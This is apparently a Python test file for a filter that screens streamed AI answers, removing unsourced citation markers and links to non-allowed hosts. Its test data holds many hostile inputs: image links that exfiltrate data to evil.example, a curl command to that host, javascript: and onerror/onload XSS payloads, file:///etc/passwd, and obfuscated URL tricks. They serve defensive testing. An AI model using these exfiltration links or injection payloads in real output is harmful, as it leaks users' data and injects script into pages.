"""What of a model's text is shown, to the character: links in every disguise, markers, and when it comes."""

import itertools
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_service.team.links import link_rule
from agent_service.team.screen import LONGEST_PLAIN, MOST_HELD, REMOVED, AnswerScreen

KNOWLEDGE = sorted((Path(__file__).parents[3] / "examples" / "knowledge").rglob("*.md"))
ALLOWED = link_rule(["rosterlund.example", "app.example.org"])
SOURCES = {1, 2, 3}

Shown = tuple[str, int, int]
"""What was shown, the markers dropped, the links removed."""


def shown(pieces: Sequence[str], is_source: Callable[[int], bool] = SOURCES.__contains__) -> Shown:
    screen = AnswerScreen(is_source, ALLOWED)
    text = "".join([*map(screen.feed, pieces), screen.end()])
    return text, screen.dropped_markers, screen.removed_links


def in_pieces(text: str, size: int) -> list[str]:
    return [text[place : place + size] for place in range(0, len(text), size)]


def check(text: str, expected: Shown) -> None:
    """However the text is cut."""
    assert shown([text]) == expected
    assert shown(list(text)) == expected
    assert shown(in_pieces(text, 3)) == expected


# --- however it is cut ---

FRAGMENTS = [
    *("a", "9", "1", "次", "é", " ", "\n", "\t", "  ", ".", ",", ";", ":", "!", "?", "'", '"', "-", "_", "*", "|", "~"),
    *("[", "]", "(", ")", "<", ">", "`", "```", "``", "\\", "/", "//", "&", "#", "@", "=", "%", "^"),
    *("[1]", "[9]", "[12", "]:", "](", "](<", "![", "[x]", "[x](", "[1](", "[id]: "),
    *("h", "ht", "https", "https:", "http://", "www", "www.", "ftp:", "wss:", "w", "data", "data:", "javascript", ":"),
    *("evil.example", "rosterlund.example", "https://evil.example/x", "https://rosterlund.example/x", "//evil.example"),
    *(
        "&#58;",
        "&colon;",
        "&#x2f;",
        "&amp;",
        "&#9;",
        "<a ",
        "</a>",
        "<img",
        "<b>",
        "<x:y>",
        "\u200b",
        "\uff1a",
        "\uff0f",
    ),
]
TEXTS = st.lists(st.sampled_from(FRAGMENTS), max_size=20).map("".join)


@settings(deadline=None)
@given(TEXTS, st.lists(st.integers(min_value=0, max_value=160)))
def test_what_is_shown_and_counted_does_not_depend_on_where_the_text_is_cut(text: str, places: list[int]) -> None:
    cuts = [0, *sorted(min(place, len(text)) for place in places), len(text)]
    pieces = [text[start:end] for start, end in itertools.pairwise(cuts)]

    assert shown(pieces) == shown([text])


@settings(deadline=None)
@given(TEXTS)
def test_characters_one_by_one_are_shown_as_the_whole_is(text: str) -> None:
    assert shown(list(text)) == shown([text])


OVERLONG = [
    *("x" * 1019, "次" * 300, "次" * 255, "1" * 252, "[9]" * 341, "[1]" * 342, " " * 1030, "\n" * 1025, "/" * 1022),
    *("[", "](", "](/\\/", "https:", "//", "evil.example/", "<", "&#58;", "[1]", "`", "[id]:", "www.", "次", " "),
]


@settings(deadline=None)
@given(st.lists(st.sampled_from(OVERLONG), max_size=5).map("".join), st.integers(min_value=1, max_value=1_100))
def test_overlong_words_are_shown_alike_in_pieces_of_any_size(text: str, size: int) -> None:
    assert shown(in_pieces(text, size)) == shown([text])


@settings(deadline=None)
@given(st.text(alphabet="abé次 .,;!?\n0123456789+*=%-", max_size=60))
def test_text_without_anything_to_judge_is_unchanged(text: str) -> None:
    assert shown(list(text)) == (text, 0, 0)


# --- when it comes ---


@pytest.mark.parametrize(
    "piece", ["It", "It costs", "40 EUR.", "次の文", "e.g.", "(see", "it's", "x=1", "a_b", "**bold**"]
)
def test_a_plain_piece_is_shown_at_once(piece: str) -> None:
    assert AnswerScreen(SOURCES.__contains__, ALLOWED).feed(piece) == piece


def test_only_the_blank_at_the_end_waits_for_what_follows_it() -> None:
    screen = AnswerScreen(SOURCES.__contains__, ALLOWED)

    assert [screen.feed(piece) for piece in ("It ", "costs ", "[9]", ".")] == ["It", " costs", "", "."]


def test_a_word_that_may_become_an_address_waits_no_longer_than_it_may() -> None:
    screen = AnswerScreen(SOURCES.__contains__, ALLOWED)

    assert [screen.feed(piece) for piece in ("a", " ht", "m", "l")] == ["a", "", " htm", "l"]


@pytest.mark.parametrize(
    "text",
    [
        *(
            "x" * 20_000,
            "次" * 20_000,
            "次の文です。" * 4_000,
            "次[1]。" * 4_000,
            "次https://rosterlund.example/" * 700,
        ),
        *("/" * 20_000, "`" * 20_000, "[" * 20_000, "<" * 20_000, "\\" * 20_000, " " * 20_000, "\n" * 20_000),
        *("[x](" * 5_000, "](" + " " * 20_000, "https://evil.example/" + "a" * 20_000, "&#58;" * 4_000, "[1]" * 7_000),
    ],
    ids=lambda text: f"{text[:12]!r}",
)
def test_what_is_held_back_is_bounded(text: str) -> None:
    """Judged by what still comes at the end: everything before it was decided."""
    screen = AnswerScreen(SOURCES.__contains__, ALLOWED)
    for piece in in_pieces(text, 50):
        screen.feed(piece)
        assert len(screen._buffer) <= MOST_HELD + LONGEST_PLAIN


@pytest.mark.parametrize("text", ["次の文です。" * 500, "见[1]。" * 800, "x" * 3_000], ids=["plain", "cited", "latin"])
def test_a_text_without_blanks_keeps_coming(text: str) -> None:
    screen = AnswerScreen(SOURCES.__contains__, ALLOWED)
    fed = came = 0
    for piece in in_pieces(text, 20):
        fed += len(piece)
        came += len(screen.feed(piece))
        # Of plain text nothing waits, and of a marker only what has come of it.
        assert came >= fed - 4


def test_a_text_that_ends_in_what_waited_is_shown_whole_at_the_end() -> None:
    for text in ("a [1", "a https", "a <", "a &", "a `", "a \n", "[x](", "a [1]:  "):
        assert shown([text]) == (text, 0, 0)


def test_a_source_that_a_tool_finds_counts_from_then_on() -> None:
    sources = {1}
    screen = AnswerScreen(sources.__contains__, ALLOWED)

    before = screen.feed("One [2]. ")
    sources.add(2)
    after = screen.feed("Two [2].") + screen.end()

    assert before + after == "One. Two [2]."
    assert screen.dropped_markers == 1


# --- what is ordinary stays ---


@pytest.mark.parametrize("path", KNOWLEDGE, ids=lambda path: f"{path.parent.name}-{path.stem}")
@pytest.mark.parametrize("size", [1, 7, 100_000])
def test_the_sample_documents_are_shown_as_they_are(path: Path, size: int) -> None:
    text = path.read_text(encoding="utf-8")

    assert shown(in_pieces(text, size)) == (text, 0, 0)


def test_there_are_sample_documents() -> None:
    assert len(KNOWLEDGE) > 5


@pytest.mark.parametrize(
    "text",
    [
        "and/or, 1/2, n/a, 24/7, a / b",
        "// comment\n//comment\n  x = 1  // and more",
        "a < b, a<b, a > b, a <= b, x << 2, <3, ->, =>",
        "List<int>, Map<String, List<int>>, Vec<T>, std::vector<int>, #include <stdio.h>",
        "<b>bold</b>, <br>, <br/>, <code>x</code>, <abbr>, <your-name>",
        "data: nothing; data:; file: notes; javascript: the language; note:this, www, www., http, https:, https://",
        "12:30, 10:00:00, 1:1, C:\\path, C:\\\\path, \\n, \\d+, \\[x\\], 50\\%",
        "ada@rosterlund.example, ada@evil.example, mailto:ada@evil.example, tel:+49",
        "items[0].price, handlers[0](event), a[1]b, args[0].x[1].y",
        "`code [9]`, `a[9]`, ``[9] ` [9]``, ```[9]```",
        "```\n[9] x\n\n`[9]\n```",
        "````\n```\n[9]\n```\n````",
        "postgresql://u@h/db, redis://localhost:6379/0, mongodb+srv://h/db, s3://bucket/key, git@github.com:x/y",
        "[text], [x][y], [a](/relative), [a](other.md#place), [a](#place), [a](?q=1), [ ], [x] done, [^1], [1, 2]",
        "[1234], [], [-1], [1.2], [1a], [\uff19]",
        "AT&T, R&D, a && b, &amp;, &lt;b&gt;, &nbsp;, &copy; 2024, ?a=1&b=2",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "evil.example, evil.example/path, ./a/b, ../x, /etc/hosts, ~/x, a//b, x/y/z",
        "In file [1]: a, x [2]: b\n[1]: c\n[note]: see there",
        "https://rosterlund.example, http://app.example.org/a?b=c#d. (https://docs.rosterlund.example/a)",
        "<https://rosterlund.example/a>, [a](https://rosterlund.example/a_(b)), [a](<https://rosterlund.example/>)",
        "![i](https://rosterlund.example/i.png 'title'), [![i](//rosterlund.example/i)](https://rosterlund.example)",
        "[id]: https://rosterlund.example/a 'title'\n[id]: //rosterlund.example/x",
        "www.rosterlund.example, **https://rosterlund.example**, _https://rosterlund.example/x_",
        "https://rosterlund.example/go?to=https://evil.example, https://rosterlund.example//evil.example",
        "次https://rosterlund.example/を見て。[1]次の、[2]。",
        "क\u094d\u200dष, \U0001f469\u200d\U0001f4bb, \u200f\u05e9\u05dc",
    ],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    check(text, (text, 0, 0))


# --- links ---


@pytest.mark.parametrize(
    ("text", "expected", "removed"),
    [
        # As Markdown has them.
        ("![x](https://evil.example/?q=secret)", "![x]", 1),
        ("[t](https://evil.example)", "[t]", 1),
        ('[t](https://evil.example "title") y', '[t] "title") y', 1),
        ("[t](https://evil.example/a_(b)) y", "[t] y", 1),
        ("[t](<https://evil.example>) y", "[t] y", 1),
        ("[t]( https://evil.example ) y", "[t] ) y", 1),
        ("[t](\n  https://evil.example) y", "[t] y", 1),
        ("[t](https://evil.example", "[t]", 1),
        ("[![a](https://evil.example/a.png)](https://evil.example)", "[![a]]", 2),
        ("[1](https://evil.example) y", "[1] y", 1),
        ("\\[t](https://evil.example)", "\\[t]", 1),
        ("[t](//evil.example)", "[t]", 1),
        ("[t](//134744072/x)", "[t]", 1),
        ("[t](/\\evil.example)", REMOVED, 1),
        ("[t](javascript:alert(1))", "[t]", 1),
        ("[t](vbscript:x)", "[t]", 1),
        ("[t](data:image/svg+xml,x)", "[t]", 1),
        ("[t](file:///etc/passwd)", "[t]", 1),
        ("[t](mailto:a@evil.example?body=x)", "[t]", 1),
        ("[t](x-app:do)", "[t]", 1),
        ("[t](\x01javascript:x)", "[t]", 1),
        ("[id]: https://evil.example/x 'title'", f"[id]: {REMOVED} 'title'", 1),
        ("[id]:\n  https://evil.example/x", f"[id]:\n  {REMOVED}", 1),
        ("[id]: <https://evil.example>", f"[id]: <{REMOVED}>", 1),
        ("[id]: //evil.example/x", f"[id]: {REMOVED}", 1),
        ("[id]://evil.example/x", f"[id]:{REMOVED}", 1),
        ("[id]: //134744072/x", f"[id]: {REMOVED}", 1),
        ("[id]: /\\evil.example", REMOVED, 1),
        ("<https://evil.example>", f"<{REMOVED}>", 1),
        ("<x-app:do>", "x-app:do", 1),
        ("<postgresql://u@h/db>", "postgresql://u@h/db", 1),
        # As they stand in text.
        ("see https://evil.example/a, and", f"see {REMOVED}, and", 1),
        ("(https://evil.example/a)", f"({REMOVED})", 1),
        ("**https://evil.example**", f"**{REMOVED}**", 1),
        ("_https://evil.example_", f"_{REMOVED}_", 1),
        ('"https://evil.example"', f'"{REMOVED}"', 1),
        ("`https://evil.example`", f"`{REMOVED}`", 1),
        ("```\ncurl https://evil.example/x\n```", f"```\ncurl {REMOVED}\n```", 1),
        ("x=https://evil.example", f"x={REMOVED}", 1),
        ("見て。https://evil.example/aを見て。", f"見て。{REMOVED}を見て。", 1),
        ("HtTpS://EVIL.example", REMOVED, 1),
        ("ftp://evil.example, wss://evil.example", f"{REMOVED}, {REMOVED}", 2),
        ("//evil.example/x", REMOVED, 1),
        ("//localhost/x", REMOVED, 1),
        ("www.evil.example/x.", f"{REMOVED}.", 1),
        ("_www.evil.example_", f"_{REMOVED}_", 1),
        ("-www.evil.example", f"-{REMOVED}", 1),
        ("www.évil.example", REMOVED, 1),
        ("http:\\\\evil.example", REMOVED, 1),
        ("https:evil.example", REMOVED, 1),
        ("https:////evil.example", REMOVED, 1),
        ("git+https://evil.example", f"git+{REMOVED}", 1),
        ("1https://evil.example", f"1https{REMOVED}", 1),
        ("[1https://evil.example", f"[1{REMOVED}", 1),
        ("xhttps://evil.example, [xhttps://evil.example", f"xhttps{REMOVED}, [x{REMOVED}", 2),
        ("blob:https://evil.example/x", f"blob:{REMOVED}", 1),
        ("javascript:alert(1)", f"{REMOVED})", 1),
        ("data:text/html,xx data: nothing", f"{REMOVED} data: nothing", 1),
        # Of other hosts than they look.
        ("https://rosterlund.example@evil.example/", REMOVED, 1),
        ("https://user@rosterlund.example/", REMOVED, 1),
        ("https://rosterlund.example.evil.example", REMOVED, 1),
        ("https://evilrosterlund.example", REMOVED, 1),
        ("https://evil.example/rosterlund.example", REMOVED, 1),
        ("https://evil.example\\@rosterlund.example", REMOVED, 1),
        ("https://röster.example", REMOVED, 1),
        ("https://[::1]/x http://127.0.0.1/", f"{REMOVED} {REMOVED}", 2),
        ("https://evil。example", REMOVED, 1),
        # In disguise.
        ("htt\u200bps://evil.example", REMOVED, 1),
        ("\u202ehttps://evil.example", REMOVED, 1),
        ("h\u00adttps://evil.example", REMOVED, 1),
        ("https&#58;//evil.example/x", f"https{REMOVED}", 1),
        ("&#x2F;&#x2F;evil.example", REMOVED, 1),
        ("&#104;ttps://evil.example", REMOVED, 1),
        ("www&#46;evil.example", f"www{REMOVED}", 1),
        ("https\\://evil.example", f"https{REMOVED}", 1),
        ("[x](https&colon;&sol;&sol;evil.example)", REMOVED, 1),
        ("[x](&amp;#x2f;/evil.example)", REMOVED, 1),
        ("[x](/\\/evil.example)", REMOVED, 1),
        ("[x](h&Tab;ttps://evil.example)", "[x]", 1),
        ("[id]: /\\/evil.example", REMOVED, 1),
        ("[id]: https\\://evil.example", REMOVED, 1),
        ("[id]: javascript&colon;alert", REMOVED, 1),
        ("[id]: /&#47;134744072", f"[id]: {REMOVED}", 1),
        # As HTML.
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>", 1),
        ('<img src="https://evil.example/x">', f'&lt;img src="{REMOVED}">', 2),
        ("<A HREF=x>t</A>", "&lt;A HREF=x>t&lt;/A>", 2),
        ("<svg/onload=alert(1)>", "&lt;svg/onload=alert(1)>", 1),
        ("<script>x</script>", "&lt;script>x&lt;/script>", 2),
        ("<a\nhref=x>", "&lt;a\nhref=x>", 1),
    ],
)
def test_what_leads_elsewhere_is_made_harmless(text: str, expected: str, removed: int) -> None:
    check(text, (expected, 0, removed))


@pytest.mark.parametrize(
    "text",
    [
        "[" + "x" * 1019 + "](https://evil.example)",
        *("[" + "x" * size + r"](/\/134744072/)" for size in range(1_018, 1_024)),
        *("[" + "x" * size + "](https://evil.example)" for size in range(1_010, 1_024)),
        "[x](" + " " * 1_100 + r"/\/134744072)",
        "<https:" + "/" * 1_100 + "evil.example>",
        "[id]:" + "\t" * 1_100 + "//134744072/x",
        "&amp;" + "x" * 1_003 + "https&#58;&#47;&#47;evil.example",
    ],
    ids=lambda text: f"{text[:4]}-{len(text)}",
)
def test_a_link_is_not_hidden_by_the_length_of_what_it_stands_in(text: str) -> None:
    """An overlong word is judged in parts; what is removed breaks what spans two of them."""
    whole, dropped, removed = shown([text])

    assert shown(list(text)) == (whole, dropped, removed)
    assert removed
    assert "](https://evil" not in whole
    assert "](/\\/" not in whole
    assert "<https:" + "/" * 1_100 + "evil" not in whole


def test_an_address_is_found_where_plain_text_was_cut_within_its_scheme() -> None:
    for length in range(LONGEST_PLAIN - 12, LONGEST_PLAIN + 2):
        text, _, removed = shown(["1" * length + "https://evil.example"])

        assert (text, removed) == ("1" * length + "https" + REMOVED, 1)


# --- markers ---


@pytest.mark.parametrize(
    ("text", "expected", "dropped"),
    [
        ("costs 40 EUR [9].", "costs 40 EUR.", 1),
        ("costs 40 EUR[9].", "costs 40 EUR.", 1),
        ("costs 40 EUR. [9]", "costs 40 EUR.", 1),
        ("costs 40 EUR [1].", "costs 40 EUR [1].", 0),
        ("costs 40 EUR [9] a month", "costs 40 EUR a month", 1),
        ("a [1][9] b", "a [1] b", 1),
        ("a [9][1] b", "a [1] b", 1),
        ("a [9] [1] b", "a [1] b", 1),
        ("a [8][9].", "a.", 2),
        ("a [1][9][2].", "a [1][2].", 1),
        ("a [9], b [8]; c [7]: d [6]! e [5]?", "a, b; c: d! e?", 5),
        ("a [9],[8];[1]", "a,;[1]", 2),
        ("(see [9])", "(see)", 1),
        ("([9])", "()", 1),
        ("**x**[9]", "**x**", 1),
        ("a[9] [9]", "a", 2),
        ("[9]", "", 1),
        ("[9] a", " a", 1),
        ("a\n[9] b", "a\n b", 1),
        ("- [9] b", "- b", 1),
        ("a [9]\nb", "a\nb", 1),
        ("a\n\n[9]\n\nb", "a\n\n\n\nb", 1),
        ("次[9]。次", "次。次", 1),
        ("次[1][9]次", "次[1]次", 1),
        ("EUR[1]。次", "EUR[1]。次", 0),
        ("a [1, 9] b", "a [1, 9] b", 0),
        ("a [001] [01] b", "a [001] [01] b", 0),
        ("a [0] [000] [999] b", "a b", 3),
        ("a [1000] b", "a [1000] b", 0),
        ("a\u00a0[9].", "a.", 1),
        ("a\t[9].", "a.", 1),
        ("x [9]: y", "x: y", 1),
        ("x [9](y)", "x (y)", 1),
        ("[1](https://rosterlund.example/a) b", "[1](https://rosterlund.example/a) b", 0),
        ("[9](https://rosterlund.example/a) b", "(https://rosterlund.example/a) b", 1),
        ("[9][x]", "[x]", 1),
        ("\\[9] b", "\\ b", 1),
        # In code nothing is a marker, and behind it everything.
        ("`[9]` [9]", "`[9]`", 1),
        ("``[9]`` [9]", "``[9]``", 1),
        ("`a [9] b` [9] c", "`a [9] b` c", 1),
        ("```\n[9] x\n``` [8]", "```\n[9] x\n```", 1),
        ("```py\nx = [9]\n```\n\nText [9].", "```py\nx = [9]\n```\n\nText.", 1),
        ("````\n``` [9]\n```` [9]", "````\n``` [9]\n````", 1),
        # Code in a line ends with it, closed or not.
        ("It's 5` tall\nText [9].", "It's 5` tall\nText.", 1),
        ("`a]:\nx [9].", "`a]:\nx.", 1),
        ("x[9].y [9].", "x[9].y.", 1),
        ("x[9](y) and x[9] (y)", "x[9](y) and x (y)", 1),
    ],
)
def test_a_marker_without_a_source_is_taken_out(text: str, expected: str, dropped: int) -> None:
    check(text, (expected, dropped, 0))


def test_markers_and_links_are_counted_apart_and_each_once() -> None:
    text = "a [9] https://evil.example [8] ![x](https://evil.example/y) [1] <img src=//evil.example/z>"

    check(text, (f"a {REMOVED} ![x] [1] &lt;img src={REMOVED}>", 2, 4))


def test_a_number_is_asked_for_as_it_stands() -> None:
    asked: list[int] = []

    def is_source(marker: int) -> bool:
        asked.append(marker)
        return True

    shown(["a [7][12] `[3]` x[4].y [5]"], is_source)

    assert asked == [7, 12, 5]


# --- whatever comes ---


@pytest.mark.timeout(30)
@pytest.mark.parametrize("size", [1, 20_000])
@pytest.mark.parametrize(
    "unit",
    [
        *(
            "[",
            "](",
            "[x](",
            "](<",
            "](\\",
            "](((",
            "((",
            "[1]",
            "[9",
            "[9]",
            "\n[",
            "<",
            "<a",
            "<a:",
            "&",
            "&#",
            "&#x",
        ),
        *(
            "https://",
            "://",
            "//",
            "/",
            "\\/",
            "\\",
            "www.",
            ":",
            "data:",
            "javascript:",
            "h",
            "a",
            "次",
            "`",
            "_",
            ".",
            " ",
        ),
    ],
)
def test_no_text_takes_long_to_judge(unit: str, size: int) -> None:
    text = (unit * 20_000)[:20_000]

    assert shown(in_pieces(text, size))[1:] >= (0, 0)


@settings(deadline=None)
@given(st.text(max_size=80))
def test_no_text_breaks_the_screen(text: str) -> None:
    assert shown(list(text)) == shown([text])
